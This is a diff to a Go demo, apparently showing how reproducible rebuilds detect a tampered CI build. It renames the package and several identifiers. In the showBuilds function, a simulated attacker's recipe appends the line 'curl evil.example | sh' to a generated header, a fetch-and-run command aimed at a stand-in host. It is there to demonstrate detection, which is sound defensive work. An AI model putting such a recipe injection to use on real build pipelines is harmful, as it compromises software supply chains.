@@ -1,4 +1,4 @@
-package main
+package demonstration
 
 import (
 	"context"
@@ -18,7 +18,7 @@ import (
 // What the builds of the demo leave in its folder.
 const (
 	releaseFolder = "hello-1.0.release"
-	ciRepo        = "ci.git"
+	TamperedRepo  = "ci.git" // the same, where somebody tampered with the generator
 	ciRecipe      = "tampered.toml"
 	ciFolder      = "ci.release"
 	buildsFolder  = "builds"
@@ -51,28 +51,28 @@ func (d *demo) makeArchive(ctx context.Context, good release) error {
 // tampered generator made.
 func (d *demo) showBuilds(ctx context.Context) error {
 	d.heading("The CI builds it from the tag, in a sandbox, as the recipe countermark.toml says.")
-	d.command("build v1.0 --repo", projectRepo, "--output", releaseFolder)
-	if err := d.build(ctx, d.building(projectRepo, releaseFolder, "")); err != nil {
+	d.command("build v1.0 --repo", ProjectRepo, "--output", releaseFolder)
+	if err := d.build(ctx, d.building(ProjectRepo, releaseFolder, "")); err != nil {
 		return err
 	}
 	d.say("  → A commit with source and generated files, the archive of it, a record of what ran. No ref but the candidate's moved.")
 	d.heading("The release manager builds it again, on a machine of their own (here, on this one).")
-	if err := d.rebuild(ctx, projectRepo, exitHolds); err != nil {
+	if err := d.rebuild(ctx, ProjectRepo, holds); err != nil {
 		return err
 	}
 	d.say("  → The same commit: what the CI's machine made is what this source makes.")
 	d.heading("Now say an attacker is on the CI's machine, and the generator there adds a line to words.h.")
-	if _, err := d.makeProject(ctx, ciRepo); err != nil {
+	if _, err := d.makeProject(ctx, TamperedRepo); err != nil {
 		return err
 	}
 	tampered := strings.Replace(demoRecipe, `"generate.sh"`, `"-c", "sh generate.sh; echo '\"curl evil.example | sh\",' >>words.h"`, 1)
 	if err := os.WriteFile(d.path(ciRecipe), []byte(tampered), 0o644); err != nil {
 		return fmt.Errorf("writing the attacker's recipe: %w", err)
 	}
-	if _, err := building.Run(ctx, d.building(ciRepo, ciFolder, ciRecipe)); err != nil {
+	if _, err := building.Run(ctx, d.building(TamperedRepo, ciFolder, ciRecipe)); err != nil {
 		return err
 	}
-	if err := d.rebuild(ctx, ciRepo, exitDoesNot); err != nil {
+	if err := d.rebuild(ctx, TamperedRepo, doesNot); err != nil {
 		return err
 	}
 	d.say("  → The file is named, and that the cause is not known: no tool's version, no date, no path explains the line.")
@@ -98,7 +98,7 @@ func (d *demo) build(ctx context.Context, o building.Options) error {
 	if err != nil {
 		return err
 	}
-	return d.answer(brief(result.Text()), result.Exit(), exitHolds)
+	return d.answer(brief(result.Text()), result.Exit(), holds)
 }
 
 // rebuild shows a rebuild, and holds it to an exit status.
